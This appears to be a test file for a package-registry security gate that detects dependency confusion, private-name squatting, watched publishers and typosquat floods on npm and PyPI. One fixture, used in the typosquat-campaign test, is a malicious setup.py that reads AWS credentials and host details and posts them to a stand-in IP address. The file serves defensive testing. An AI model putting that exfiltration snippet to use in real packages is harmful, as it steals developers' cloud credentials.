import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import type { Alarm } from '../src/monitor/alarms.ts'
import type { Notice } from '../src/ports/notifier.ts'
import { startFakeNpm } from './fakes/npm.ts'
import type { FakeNpm } from './fakes/npm.ts'
import { startFakeNpmFeed } from './fakes/npm-feed.ts'
import type { FakeNpmFeed } from './fakes/npm-feed.ts'
import { startFakePypi } from './fakes/pypi.ts'
import type { FakePypi } from './fakes/pypi.ts'
import { startFakePypiFeed } from './fakes/pypi-feed.ts'
import type { FakePypiFeed } from './fakes/pypi-feed.ts'
import { startGate } from './harness/gate.ts'
import type { Gate } from './harness/gate.ts'

let npm: FakeNpm
let pypi: FakePypi
let npmFeed: FakeNpmFeed
let pypiFeed: FakePypiFeed
let gate: Gate
const notices: Notice[] = []
const now = (): string => new Date().toISOString()
const QUICK = { idle: 50, busy: 10 }

beforeAll(async () => {
  npm = await startFakeNpm()
  for (let minor = 0; minor < 31; minor++) {
    await npm.addVersion({
      name: 'botframework-streaming', version: `4.${minor < 30 ? minor - 20 < 0 ? `0.${minor}` : `${minor - 17}.0` : '14.0'}`, publishedAt: new Date(Date.UTC(2019, minor, 1)),
      registryManifest: { description: 'Streaming library for the Bot Framework SDK', maintainers: [{ name: 'sdkbot', email: 'sdk@corp.example' }], repository: 'github:corp/botbuilder-js' },
    })
  }
  pypi = await startFakePypi()
  npmFeed = await startFakeNpmFeed()
  pypiFeed = await startFakePypiFeed()
  gate = await startGate({
    sources: { npm: { url: npm.url, sumdb: null }, pypi: { url: pypi.index, sumdb: null } },
    origins: [npmFeed.url, pypiFeed.url, pypi.files.url],
    policy: { private: [{ ecosystem: 'npm', pattern: '@acme/billing', registry: null }, { ecosystem: 'npm', pattern: '@acme/*', registry: null }] },
    watch: { budget: 600, feeds: { npm: npmFeed.url, pypi: `${pypiFeed.url}pypi`, go: null }, pace: QUICK },
    onNotice: (notice) => notices.push(notice),
  })
  await vi.waitUntil(async () => (await gate.app.lookout.status()).feeds.length === 2, { timeout: 50_000 })
})

afterAll(async () => {
  await gate.close()
  await Promise.all([npm.close(), pypi.close(), npmFeed.close(), pypiFeed.close()])
})

const alarm = (kind: Alarm['kind'], about: string): Promise<Alarm> => vi.waitUntil(
  async () => (await gate.app.lookout.alarms()).find((one) => one.kind === kind && one.packages.some(({ name }) => name === about)) ?? false, { timeout: 50_000, interval: 100 })

const page = async (name: string): Promise<{ status: number; text: string }> => {
  const response = await fetch(`${gate.pypi}${name}/`)
  return { status: response.status, text: await response.text() }
}

describe('the watch', () => {
  it('raises an alarm for a stranger under another registry\'s name and version, with all its signals, and holds it (case B)', async () => {
    const wheel = pypi.add('botframework-streaming', { version: '4.14.0', uploadTime: now() })
    pypi.describe('botframework-streaming', { summary: 'Streaming library for the Bot Framework SDK', author_email: 'somebody@mail.example' }, ['somebody'])
    pypiFeed.release('botframework-streaming', '4.14.0')
    const raised = await alarm('twin', 'botframework-streaming')
    expect(raised).toMatchObject({ severity: 'high', size: 1, title: expect.stringContaining('has the name and version of npm:botframework-streaming') })
    expect(raised.packages[0]?.signals.join('; ')).toMatch(/npm:botframework-streaming has this name.*connects the two.*4\.14\.0 is the other's current one.*word for word.*first release.*31 releases/)
    expect(notices.filter(({ data }) => data['alarm'] === raised.id)).toHaveLength(1)
    const file = await fetch(`${gate.origin}/pypi/files/botframework-streaming/${wheel.file}`)
    expect([file.status, await file.text()]).toEqual([403, expect.stringContaining('nothing connects it')])
  })

  it('raises an alarm where a private name turns up, at whichever registry', async () => {
    pypi.add('acme-billing', { version: '1.0', uploadTime: now() })
    pypi.describe('acme-billing', { author_email: 'x@mail.example' }, ['stranger'])
    pypiFeed.release('acme-billing', '1.0')
    expect(await alarm('private-name', 'acme-billing')).toMatchObject({ severity: 'critical', packages: [{ signals: expect.arrayContaining(['private name npm:@acme/billing', 'published by stranger']) }] })
    await npm.addVersion({ name: '@acme/other', version: '1.0.0' })
    npmFeed.change('@acme/other')
    expect(await alarm('private-name', '@acme/other')).toMatchObject({ severity: 'critical' })
  })

  it('looks first at whom it watches, and says so at every upload', async () => {
    await gate.app.lookout.watch({ ecosystem: 'npm', actor: 'known-attacker', because: 'case 7', by: 'ann' })
    await npm.addVersion({ name: 'harmless-looking', version: '2.3.4', registryManifest: { _npmUser: { name: 'Known-Attacker', email: 'k@mail.example' } } })
    npmFeed.change('harmless-looking')
    expect((await alarm('actor', 'harmless-looking')).packages[0]?.signals).toContain('watched: case 7')
    // Examined before anybody asked for it.
    await vi.waitUntil(async () => (await gate.app.operator.package('npm', 'harmless-looking'))?.files[0]?.level, { timeout: 50_000 })
    await npm.addVersion({ name: 'harmless-too', version: '0.0.1', registryManifest: { _npmUser: { name: 'known-attacker', email: 'k@mail.example' } } })
    npmFeed.change('harmless-too')
    expect((await alarm('actor', 'harmless-too')).size).toBe(2)
  })

  it('makes one alarm of a flood, and holds all of it once several have turned out malicious', async () => {
    const targets = ['requests', 'urllib3', 'numpy', 'pandas', 'flask', 'jinja2', 'django', 'sqlalchemy', 'tensorflow', 'pyinstaller', 'redis', 'gevent']
    const steal = `import os, json, platform, socket, urllib.request\nfrom setuptools import setup\n`
      + `facts = {'os': platform.system(), 'user': os.environ.get('USER'), 'host': socket.gethostname(), 'keys': open(os.path.expanduser('~/.aws/credentials')).read()}\n`
      + `urllib.request.urlopen('http://192.0.2.7:8000/api/python/', data=json.dumps(facts).encode())\nsetup(name='x', version='1.0.0')\n`
    const squats = targets.map((name) => name.slice(0, 2) + name.slice(3))
    for (const name of squats) {
      pypi.add(name, { version: '1.0.0', kind: 'sdist', uploadTime: now(), files: { 'setup.py': steal } })
      pypi.describe(name, { summary: 'nothing', author_email: 'flood@mail.example' }, ['flooder'])
      pypiFeed.release(name, '1.0.0')
    }
    const last = squats.at(-1) as string
    const raised = await vi.waitUntil(async () => (await gate.app.lookout.alarms({ open: true })).find(({ kind, size }) => kind === 'campaign' && size >= 10) ?? false, { timeout: 50_000, interval: 200 })
    const campaign = await gate.app.lookout.campaign(raised.campaign as string)
    expect(campaign.members.map(({ name }) => name).filter((name) => !squats.includes(name))).toEqual([])
    await vi.waitUntil(async () => (await gate.app.lookout.campaign(raised.campaign as string)).size === squats.length, { timeout: 50_000 })
    expect((await gate.app.lookout.alarms()).filter(({ kind }) => kind === 'campaign')).toHaveLength(1)

    await vi.waitUntil(async () => (await gate.app.lookout.campaign(raised.campaign as string)).malicious >= 2, { timeout: 50_000, interval: 200 })
    const held = await vi.waitUntil(async () => {
      const file = await fetch(`${gate.origin}/pypi/files/${last}/${last}-1.0.0.tar.gz`)
      return file.status === 403 ? file.text() : false
    }, { timeout: 50_000, interval: 200 })
    expect(held).toContain('did you mean gevent?')
    expect((await gate.app.lookout.actors())[0]).toMatchObject({ actor: expect.stringMatching(/flood/), malicious: expect.any(Number) })
    expect(await gate.app.lookout.campaignCsv(raised.campaign as string)).toContain('"flood[@]mail[.]example"')
  })

  it('asks whoever mistypes a name whether another was meant', async () => {
    const answers = await Promise.all([fetch(`${gate.npm}lodahs`), page('reqeusts'), page('no-such-name-anywhere')])
    const [first, second, third] = [await answers[0].text(), answers[1].text, answers[2].text]
    expect([first, second]).toEqual([expect.stringContaining('did you mean lodash?'), expect.stringContaining('did you mean requests?')])
    expect(third).not.toContain('did you mean')
  })

  it('says nothing of what it has no reason to speak of', async () => {
    pypi.add('rain-gauge-reader', { version: '0.1', uploadTime: now() })
    pypi.describe('rain-gauge-reader', { summary: 'Reads rain gauges', author_email: 'a@weather.example' }, ['ada'])
    pypiFeed.release('rain-gauge-reader', '0.1')
    await vi.waitUntil(async () => gate.app.lookout.status().then(({ waiting }) => waiting.pypi === 0), { timeout: 50_000 })
    await vi.waitUntil(async () => (await gate.app.context.database.query.selectFrom('identities').select('name').where('ecosystem', '=', 'pypi').where('name', '=', 'rain-gauge-reader').execute()).length === 1, { timeout: 50_000 })
    expect(JSON.stringify(await gate.app.lookout.alarms())).not.toContain('rain-gauge-reader')
    expect((await page('rain-gauge-reader')).status).toBe(200)
  })
})
